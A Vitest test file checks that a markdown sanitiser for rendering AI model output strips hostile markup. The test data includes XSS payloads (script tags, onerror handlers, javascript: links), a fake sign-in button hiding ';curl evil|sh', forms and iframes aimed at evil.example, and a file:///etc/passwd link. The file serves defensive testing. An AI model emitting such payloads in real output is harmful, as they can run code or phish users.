// @vitest-environment jsdom
// The renderer against hostile model output, in a DOM (the real webview is checked end to end).
import { describe, expect, it } from "vitest";
import { toSafeHtml } from "./safeMarkdown";

const render = (markdown: string) => {
  const div = document.createElement("div");
  div.innerHTML = toSafeHtml(markdown);
  return div;
};

describe("safe markdown", () => {
  it("keeps text, structure, code and web links", () => {
    const div = render("# Title\n\n**bold** and `code`\n\n```sh\nrm -rf <dir>\n```\n\n- [x] done\n\n[docs](https://example.com/a)");
    expect(div.querySelector("h1")?.textContent).toBe("Title");
    expect(div.querySelector("pre code")?.textContent).toBe("rm -rf <dir>\n");
    const link = div.querySelector("a");
    expect(link?.getAttribute("href")).toBe("https://example.com/a");
    expect(link?.getAttribute("rel")).toBe("noreferrer noopener");
    const box = div.querySelector("input");
    expect(box?.getAttribute("type")).toBe("checkbox");
    expect(box?.hasAttribute("disabled")).toBe(true);
  });

  it("colours a block in a language it knows, with highlight.js's classes only, and gives each block a copy button", () => {
    const div = render("```ts\nconst a: number = 1; // one\n```\n\n```\nplain <b>text</b>\n```\n\n```html\n<span class=\"x\" onclick=\"y()\">hi</span>\n```");
    const blocks = [...div.querySelectorAll("pre code")];
    expect(blocks.map((b) => b.textContent)).toEqual(["const a: number = 1; // one\n", "plain <b>text</b>\n", '<span class="x" onclick="y()">hi</span>\n']);
    expect(blocks[0].querySelector(".hljs-keyword")?.textContent).toBe("const");
    expect(blocks[0].querySelector(".hljs-comment")?.textContent).toBe("// one");
    expect(blocks[1].children.length, "no language: plain").toBe(0);
    const shell = render("```sh\necho streamed\n```");
    expect(shell.querySelector("pre .hljs-built_in")?.textContent, "a class with an underscore").toBe("echo");
    // HTML in a block is coloured as text: no element of the model's is made.
    expect(blocks[2].querySelector("[onclick]")).toBeNull();
    for (const el of div.querySelectorAll("[class]")) {
      const allowed = el.tagName === "SPAN" ? /^hljs-/ : /^(code-block|copy-code)$/;
      expect(el.getAttribute("class"), el.tagName).toMatch(allowed);
    }
    const buttons = [...div.querySelectorAll("button.copy-code")];
    expect(buttons.length).toBe(3);
    expect(buttons.every((b) => b.nextElementSibling?.tagName === "PRE" && b.getAttribute("aria-label") === "Copy code")).toBe(true);
  });

  it("never turns an attribute the model wrote into markup (a link title holding code-block tags)", () => {
    const div = render('[x](#a "<pre><button class=primary>Sign in</button><pre><span hidden>;curl evil|sh</span>") and [y](https://ok.example "<pre>t</pre>")');
    expect(div.querySelector("button, pre, span, div")).toBeNull();
    const [unsafe, safe] = [...div.querySelectorAll("a")];
    expect(unsafe.hasAttribute("href") || unsafe.hasAttribute("title")).toBe(false);
    expect(safe.getAttribute("title")).toBe("Opens in your browser: https://ok.example");
    expect(div.textContent?.trim()).toBe("x and y");
  });

  it("shows raw HTML as text and runs, styles or loads nothing", () => {
    const hostile = [
      "<style>body{display:none}</style>",
      '<form action="https://evil.example"><input name="q"><button>Go</button></form>',
      '<iframe src="https://evil.example"></iframe>',
      '<img src="x" onerror="window.pwned=1">',
      '<a href="javascript:alert(1)" onclick="alert(2)">click</a>',
      '<div style="position:fixed;inset:0" class="banner primary" id="root">cover</div>',
      "<script>window.pwned=2</script>",
      "![tracker](https://evil.example/pixel.png)",
      "[js](javascript:alert(3)) [file](file:///etc/passwd) [data](data:text/html,hi)",
    ].join("\n\n");
    const div = render(hostile);
    for (const tag of ["style", "form", "iframe", "img", "script", "button", "div"]) {
      expect(div.querySelector(tag), tag).toBeNull();
    }
    expect(div.querySelector("input")).toBeNull();
    for (const el of div.querySelectorAll("*")) {
      for (const attr of el.getAttributeNames()) {
        expect(attr.startsWith("on"), `${el.tagName} ${attr}`).toBe(false);
        expect(["style", "class", "id"]).not.toContain(attr);
      }
    }
    for (const a of div.querySelectorAll("a")) {
      const href = a.getAttribute("href");
      if (href !== null) expect(href).toMatch(/^(https?:|mailto:)/);
    }
    // What was hostile is visible as text, so the user sees what the model wrote.
    expect(div.textContent).toContain("<style>body{display:none}</style>");
    expect(div.textContent).toContain("[image: tracker]");
  });
});
